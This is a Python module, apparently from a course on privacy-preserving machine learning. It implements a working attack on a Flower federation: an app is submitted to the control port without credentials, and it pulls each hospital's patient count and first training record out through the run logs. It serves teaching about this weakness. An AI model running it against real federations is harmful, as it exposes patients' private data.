"""The attack of chapter 07b: somebody on the same machine who knows the port of a federation, and nothing else.

No key, no certificate, no file of the federation, and an account of the operating system of their own if need be. They
submit an app of theirs, as `flwr run` does. It asks every hospital for what it holds.
"""

from __future__ import annotations

import hashlib
import json
import re
from typing import Any

import numpy as np

from ppml_helpers.errors import FederationError
from ppml_helpers.federated_learning import commands

_APP = {
    "pyproject.toml": """
[project]
name = "strange"
version = "1.0.0"
license = "MIT"
dependencies = ["flwr==1.41.0"]
[tool.flwr.app]
publisher = "stranger"
[tool.flwr.app.components]
serverapp = "strange.server:app"
clientapp = "strange.client:app"
[tool.flwr.app.config]
""",
    "strange/__init__.py": "",
    "strange/client.py": """
import json
import numpy as np
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()

@app.query()
def take(message, context):
    table = np.load(context.node_config["table"])
    loot = json.dumps([context.node_config["partition-id"], table["X_train"].shape[0], table["X_train"][0].tolist()])
    return Message(RecordDict({"loot": ConfigRecord({"json": loot})}), reply_to=message)
""",
    "strange/server.py": """
from flwr.app import Message, MessageType, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    everybody = [Message(RecordDict(), node, MessageType.QUERY) for node in grid.get_node_ids()]
    for reply in grid.send_and_receive(everybody):
        print("LOOT", reply.content["loot"]["json"] if reply.has_content() else reply.error, flush=True)
""",
}


def break_in(port: int, token: str | None = None) -> dict[int, tuple[int, np.ndarray]]:
    """Submit the stranger's app to the server at a port, and return what the hospitals gave.

    Parameters
    ----------
    port : int
        The only thing that the stranger knows; a list of open ports has it.
    token : str, optional
        What somebody holds who may submit runs: to see what these can do.

    Returns
    -------
    dict
        For each hospital its number of training patients, and the first one's record of shape (features,).

    Raises
    ------
    FederationError
        If the server refuses.
    """
    from flwr.proto.control_pb2 import StreamLogsRequest

    server = commands.control(port, token)
    logs = server.StreamLogs(StreamLogsRequest(run_id=_submitted(server)))
    found = [json.loads(line) for line in re.findall(r"LOOT (\[.*\])", "".join(part.log_output for part in logs))]
    return {number: (patients, np.array(first)) for number, patients, first in sorted(found)}


def submit(port: int) -> int:
    """Submit the stranger's app without a token, and return the number of the run if the server takes it."""
    return _submitted(commands.control(port, None))


def _submitted(server: Any) -> int:
    import httpx
    from flwr.cli.build import build_fab_from_files
    from flwr.proto.control_pb2 import StartRunRequest
    from flwr.proto.fab_pb2 import Fab

    app, _ = build_fab_from_files({name: text.encode() for name, text in _APP.items()})
    try:
        fab = Fab(hash_str=hashlib.sha256(app).hexdigest(), content=app)
        return server.StartRun(StartRunRequest(fab=fab)).run_id
    except httpx.HTTPStatusError as error:
        code, why = error.response.status_code, error.response.reason_phrase
        raise FederationError(f"The server refused the stranger's run: {code} {why}.") from None
